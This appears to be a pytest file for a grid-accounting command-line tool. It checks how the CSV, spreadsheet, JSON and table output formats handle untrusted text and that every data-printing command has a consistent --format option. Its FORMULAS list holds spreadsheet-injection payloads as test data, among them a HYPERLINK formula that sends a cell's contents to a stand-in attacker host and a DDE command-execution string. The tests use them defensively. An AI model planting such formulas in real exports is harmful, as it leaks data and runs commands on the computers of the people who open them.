"""Rows for people and for programs: what each format makes of texts that somebody else chose."""

from __future__ import annotations

import csv
import io
import json
import pathlib
import re
import shlex
from contextlib import closing

import click
import commands_page
import conf_files
import in_process
import pytest
from control_directory import set_up
from hostile_text import TEXT
from hypothesis import given
from jura_site import STOPPED_S, served_by_jura, write_arex_database
from stored_jobs import add, job

from arcacct.cli.tables import FORMATS, lines
from arcacct.config.parser import load
from arcacct.config.paths import places
from arcacct.database.access import open_accounting

FORMULAS = [
    '=HYPERLINK("https://evil.example.org/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


def in_format(form: str, *row: object) -> str:
    columns = [f"c{number}" for number in range(len(row))]
    return "".join(f"{line}\n" for line in lines(columns, [row], form))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_gets_no_formula_from_a_job(formula) -> None:
    """A text that a spreadsheet would run is one that starts with an apostrophe; nothing else of it changes."""
    (_head, (cell,)) = csv.reader(io.StringIO(in_format("spreadsheet", formula), newline=""))

    assert cell == "'" + formula.replace("\t", r"\t").replace("\r", r"\r").replace("\n", r"\n")


def test_a_spreadsheet_gets_numbers_as_numbers() -> None:
    """Amounts, negative ones as well, and ordinary names are what they are; empty cells are empty."""
    text = in_format("spreadsheet", -5, 1.5, None, "atlas", "a=b", "x;=1+1")

    assert text.splitlines()[1] == '-5,1.5,"","atlas","a=b","x;=1+1"'


def test_csv_for_programs_has_every_text_as_it_is() -> None:
    """Without being asked for a spreadsheet nothing is put before a text."""
    for formula in FORMULAS:
        (_head, (cell,)) = csv.reader(io.StringIO(in_format("csv", formula), newline=""))
        assert cell == formula


@given(TEXT)
def test_json_has_every_text_in_characters_that_can_be_seen(text) -> None:
    """What is read from it is what was recorded, and a terminal that shows it is not steered."""
    out = in_format("json", text)

    assert json.loads(out) == [{"c0": text}]
    assert out.replace("\n", "").isprintable()


@given(TEXT)
def test_a_table_has_one_line_for_each_row(text) -> None:
    """Whatever a name contains, and however long it is."""
    out = in_format("table", text, 7)

    assert len(out.split("\n")) == 4
    assert out.replace("\n", "").isprintable()
    assert len(out) < 3 * 1100


def test_a_table_is_aligned_where_letters_are_wide() -> None:
    """A terminal shows signs of East Asia in two columns, and marks above letters in none."""
    rows = [("\u65e5\u672c", 7), ("e\u0301", 12), ("atlas", 1)]

    assert list(lines(["vo", "jobs"], rows, "table")) == [
        "vo     jobs",
        "-----  ----",
        "\u65e5\u672c      7",
        "e\u0301        12",
        "atlas     1",
    ]


# One option for output: every command that prints data has --format, with the same words, and its JSON is JSON.


DATA = pathlib.Path(__file__).parents[1] / "data"
PRINTS = {
    "setup": "setup --check",
    "switch": "switch --plan {arex}",
    "quarantine list": "quarantine list",
    "job": "job STORED000000",
    "stats": "stats",
    "report": "report --month 2026-05",
    "query": "query 'SELECT 1 AS one'",
    "fleet sql": "fleet sql {dataset} 'SELECT count(*) AS n FROM jobs'",
    "fleet stats": "fleet stats {dataset} --by month",
    "fleet verify": "fleet verify {dataset}",
    "status": "status",
    "verify": "verify 2026-05",
    "import gridengine": "import gridengine --summary {sge}",
    "import rejected": "import rejected",
    "features check": "features check --machine {machine}",
    "features show": "features show --machine {machine}",
    "db benchmark": "db benchmark --from 2026-05 --to 2026-06 --as HEPSPEC:12 --plan",
    "db check": "db check",
    "config check": "config check",
    "doctor": "doctor --offline",
}
"""A command line of each command that prints data."""
ACTS = {
    *("sweep", "publish", "republish", "export", "fleet load", "sandbox", "demo"),
    *("quarantine decide", "quarantine drop", "quarantine retry"),
    *("import arex", "import htcondor", "import lsf", "import pbs", "import slurm", "import sonar"),
    *("features record", "features remove", "features shutdown", "features write"),
    *("db backup", "db forget", "db init", "db move", "db optimize", "db prune", "db restore", "db snapshot"),
    "db upgrade",
}
"""They say what they did, or would do."""
IN_A_FORM_OF_ITS_OWN = {
    "quarantine sql": "SQL",
    "metrics": "what Prometheus reads",
    "config show": "the syntax of arcacct.conf",
    "help": "pages of the manual",
    "node": "the JSON of Sonar",
}
FORMER = {"status": ["--json", "--nagios"], "doctor": ["--json"]}
"""What 0.2.0 had in place of the option."""


def commands() -> dict[str, click.Command]:
    """Each command by its words; no groups."""
    found = {ctx.command_path.removeprefix("arcacct "): ctx.command for ctx in commands_page.contexts()}
    return {path: command for path, command in found.items() if not isinstance(command, click.Group)}


def options_of_output(command: click.Command) -> dict[str, click.Option]:
    """What says how an answer is printed, by its flag."""
    found = [one for one in command.params if isinstance(one, click.Option)]
    return {flag: one for one in found for flag in one.opts if one.name == "form" or flag in ("--json", "--output")}


def test_every_command_that_prints_data_has_the_option() -> None:
    """And no other does: arcctl's -o is the one exception, and stays where arcctl has it."""
    known = commands()

    assert known.keys() == {*PRINTS} | ACTS | IN_A_FORM_OF_ITS_OWN.keys()
    for path, command in known.items():
        found = options_of_output(command)
        of_arcctl = ["--output"] if path in ("stats", "job", "metrics") else []
        expected = [] if path not in PRINTS else ["--format", *FORMER.get(path, ())]
        assert sorted(found) == sorted(expected + of_arcctl), path
        for flag in FORMER.get(path, ()):
            assert found[flag].hidden


def test_the_words_are_the_same_everywhere() -> None:
    """Each with JSON; people read a table, or lines."""
    for path in PRINTS:
        (option,) = [one for one in commands()[path].params if "--format" in one.opts]
        assert isinstance(option.type, click.Choice)
        assert {*option.type.choices} <= {*FORMATS, "text", "nagios", "qacct"}
        assert "json" in option.type.choices
        assert option.default in ("table", "text", "qacct")


@pytest.fixture
def places_of(tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
    """A CE with a published job and one that is held, features of its machine, a file of Grid Engine."""
    target = f"[arcacct/directory:d]\npath={tmp_path}/outgoing\ngocdb_name=SITE\napel_messages=individual\n"
    arc = f"[common]\nhostname=ce.example.org\n[arex]\ncontroldir={set_up(tmp_path / 'control')}\n[lrms]\nlrms=slurm\n"
    (tmp_path / "outgoing").mkdir()
    conf = conf_files.write(tmp_path, target, arc)
    here = places(load(conf, {}))
    with closing(open_accounting(here)) as con:
        add(con, here, job(0), job(1)._replace(wall_s=100_000))
    where = {name: f"{tmp_path}/{name}" for name in ("dataset", "machine")}
    for command in ("publish", f"features write machine {where['machine']} hs06=100"):
        in_process.said(capsys, "--config", conf, *command.split())
    arex = write_arex_database(tmp_path / "arex", 6)
    served_by_jura(tmp_path / "arex", STOPPED_S[6], "arex/jura/apel:former")
    return {**where, "conf": conf, "arex": str(arex), "sge": str(DATA / "gridengine" / "accounting.sge819-real")}


def test_json_is_json(places_of: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """Of each command, whatever it finds: a list, or an object where there is more to tell than rows."""
    for path in PRINTS:
        if not path.startswith("fleet "):
            prints_json(path, places_of, capsys)


def test_json_of_a_dataset_is_json(places_of: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """The same of what many CEs have exported."""
    pytest.importorskip("duckdb", reason="the extra `parquet` is not installed")
    pytest.importorskip("pyarrow", reason="the extra `parquet` is not installed")
    in_process.said(capsys, "--config", places_of["conf"], "export", places_of["dataset"])
    for path in PRINTS:
        if path.startswith("fleet "):
            prints_json(path, places_of, capsys)


def prints_json(path: str, places_of: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """Whether the command of a path does."""
    command = shlex.split(PRINTS[path].format(**places_of))
    done = in_process.said(capsys, "--config", places_of["conf"], *command, "--format", "json")
    assert done.stdout, f"{path}: {done.stderr}"
    assert isinstance(json.loads(done.stdout), list | dict), path


def test_what_0_2_0_took_is_taken(places_of: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """The same answer, by the words of then."""
    for path, flags in FORMER.items():
        for flag in flags:
            command = shlex.split(PRINTS[path])
            then = in_process.said(capsys, "--config", places_of["conf"], *command, flag)
            now = in_process.said(capsys, "--config", places_of["conf"], *command, "--format", flag.strip("-"))
            assert (then.returncode, without_numbers(then.stdout)) == (now.returncode, without_numbers(now.stdout))


def without_numbers(text: str) -> str:
    """Ages differ from one second to the next."""
    return re.sub("[0-9]+", "N", text)


def test_a_format_that_an_answer_has_not_is_refused(
    places_of: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """What arcctl prints is no table: it is JSON, or its lines."""
    for options in (("--format", "csv"), ("-o", "users", "--format", "json")):
        done = in_process.said(capsys, "--config", places_of["conf"], "stats", *options)
        assert (done.returncode, done.stdout) == (64, "")
        assert "needs --by" in done.stderr
